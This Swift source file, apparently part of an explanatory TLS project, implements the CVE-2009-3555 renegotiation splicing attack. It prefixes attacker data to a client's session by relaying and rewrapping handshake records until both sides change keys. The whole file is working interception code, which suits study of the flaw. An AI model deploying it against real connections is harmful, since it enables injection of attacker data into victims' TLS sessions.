import Explanation
import TLS

/// An attacker that makes a client's first handshake the renegotiation of its own connection to the server.
///
/// See CVE-2009-3555 and RFC 5746 section 1. The attacker's data on that connection precedes all data of the client.
/// The attacker then forwards the client's handshake under its keys, and the server's without them. It does so until
/// each side changes to keys that the attacker does not have. If neither side supports RFC 5746, neither notices.
public struct Splice: Sendable {
  /// The attacker's connection to the server.
  public private(set) var connection: Connection
  /// The sides that already use their own keys.
  private var changed: Set<Side> = []

  /// Splices a client into this established connection.
  public init(_ connection: Connection) { self.connection = connection }

  /// Returns the bytes to forward for complete records from this side.
  public mutating func passOn(_ bytes: [UInt8], from side: Side) -> [UInt8] {
    var passed: [UInt8] = []
    for record in Record.whole(in: bytes) {
      guard !changed.contains(side) else {
        passed += record.bytes
        continue
      }
      let next = side == .client ? connection.wrap(record) : connection.unwrap(record)
      passed += next.bytes
      if next.type == .changeCipherSpec || record.type == .changeCipherSpec { changed.insert(side) }
    }
    return passed
  }
}

extension Record {
  /// The complete records at the start of these bytes.
  fileprivate static func whole(in bytes: [UInt8]) -> [Record] {
    var records: [Record] = []
    var rest = bytes[...]
    while rest.count >= headerLength {
      let header = Array(rest.prefix(headerLength))
      let length = headerLength + (Int(header[3]) << 8 | Int(header[4]))
      guard rest.count >= length else { break }
      records.append(
        Record(
          bytes: Array(rest.prefix(length)), ContentType(rawValue: header[0]),
          ProtocolVersion(rawValue: UInt16(header[1]) << 8 | UInt16(header[2]))))
      rest = rest.dropFirst(length)
    }
    return records
  }
}
